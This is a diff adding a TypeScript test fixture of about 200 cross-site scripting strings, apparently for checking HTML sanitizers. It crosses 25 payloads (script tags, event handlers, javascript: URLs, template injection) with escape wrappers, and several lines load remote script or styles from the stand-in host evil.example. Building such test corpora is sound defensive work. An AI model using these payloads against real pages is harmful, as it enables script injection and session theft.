@@ -1,0 +1,47 @@
+/** Ways in which a text becomes a script where a page takes it for markup. `HIT` notes that it did. */
+const HIT = 'top.hit=1'
+
+const payloads = [
+  `<script>${HIT}</script>`,
+  `<ScRiPt>${HIT}</sCrIpT>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<img src=x onerror=${HIT}>`,
+  `<img/src=x/onerror="${HIT}"//`,
+  `<svg onload=${HIT}>`,
+  `<svg/onload=${HIT}//`,
+  `<svg><script>${HIT}</script></svg>`,
+  `<iframe src="javascript:${HIT}"></iframe>`,
+  `<iframe srcdoc="<script>${HIT}</script>">`,
+  `<body onload=${HIT}>`,
+  `<details open ontoggle=${HIT}>`,
+  `<input autofocus onfocus=${HIT}>`,
+  `<video><source onerror=${HIT}></video>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
+  `<a href="javascript:${HIT}">a</a>`,
+  `<object data="javascript:${HIT}">`,
+  `<embed src="javascript:${HIT}">`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import '//evil.example/x.css';</style>`,
+  `<form action=javascript:${HIT}><button>b`,
+  `javascript:${HIT}`,
+  `[a](javascript:${HIT})`,
+]
+
+/** Where a text may stand when it breaks out of its place. */
+const wrappers: ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => `">${payload}`,
+  (payload) => `'>${payload}`,
+  (payload) => `</script>${payload}`,
+  (payload) => `</textarea></title></style>${payload}`,
+  (payload) => `-->${payload}<!--`,
+  (payload) => `{{constructor.constructor('${HIT}')()}}${payload}`,
+  (payload) => `\\u003c\${${HIT}}\`;${HIT}//${payload}`,
+]
+
+/** Two hundred texts, each of which runs on a page that is careless somewhere. */
+export const scriptTexts: readonly string[] = payloads.flatMap((payload) =>
+  wrappers.map((wrap) => wrap(payload)),
+)
